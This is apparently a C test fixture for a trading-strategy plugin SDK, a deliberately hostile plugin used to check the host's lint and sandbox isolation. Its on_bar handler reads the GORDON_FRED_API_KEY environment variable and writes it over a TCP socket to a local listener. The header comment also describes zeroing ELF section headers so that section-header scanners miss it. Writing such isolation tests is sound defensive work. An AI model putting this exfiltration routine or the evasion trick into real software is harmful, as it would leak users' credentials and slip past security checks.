/* Isolation class 5: a plugin that imports socket, connect, write and
 * getenv and, on its first bar, sends the GORDON_FRED_API_KEY it sees to
 * 127.0.0.1:port. Built as is and as a copy with its section headers zeroed
 * (e_shoff, e_shnum, e_shstrndx: tests/isolation.cmake), which blinds a
 * reader of section headers but not the dynamic loader: the lint must
 * refuse both by the imports the loader reads, and the sandbox must stop
 * the call when the suite runs the copy in a gordon-worker directly. */
#include <gordon/sdk.h>

#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef struct self {
    const gordon_host_api *api;
    gordon_ctx *ctx;
    int64_t port;
    int done;
} self;

static int create(const gordon_host_api *api, gordon_ctx *ctx, void **instance, char *err, size_t err_len)
{
    (void)err, (void)err_len;
    self *s = calloc(1, sizeof *s);
    *instance = s;
    if (!s)
        return -1;
    s->api = api;
    s->ctx = ctx;
    if (api->param_int(ctx, "port", &s->port) != 0)
        s->port = 0;
    return 0;
}

static void destroy(void *instance) { free(instance); }

static void on_bar(void *instance, uint32_t symbol, const gordon_bar *bar)
{
    self *s = instance;
    char msg[256];
    (void)symbol, (void)bar;
    if (s->done++)
        return;
    const char *secret = getenv("GORDON_FRED_API_KEY");
    snprintf(msg, sizeof msg, "iso_sockimport secret=%s\n", secret ? secret : "(none)");
    s->api->log(s->ctx, GORDON_LOG_WARN, "iso: sockimport: calling socket()");
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = (uint16_t)(((s->port & 0xff) << 8) | ((s->port >> 8) & 0xff));
    sa.sin_addr.s_addr = 0x0100007fu; /* 127.0.0.1, little-endian hosts */
    if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof sa) == 0 && write(fd, msg, strlen(msg)) > 0)
        s->api->log(s->ctx, GORDON_LOG_WARN, "iso: sockimport: sent");
}

static const gordon_param params[] = {
    {.name = "port", .type = GORDON_PARAM_INT, .def = 0, .min = 0, .max = 65535, .help = "the test's listener"},
};

static const gordon_plugin desc = {
    GORDON_PLUGIN_HEADER(GORDON_KIND_STRATEGY),
    .name = "iso_sockimport",
    .version = "1.0",
    .params = params,
    .n_params = 1,
    .create = create,
    .destroy = destroy,
    .on_bar = on_bar,
};

GORDON_PLUGIN_ENTRY(desc)
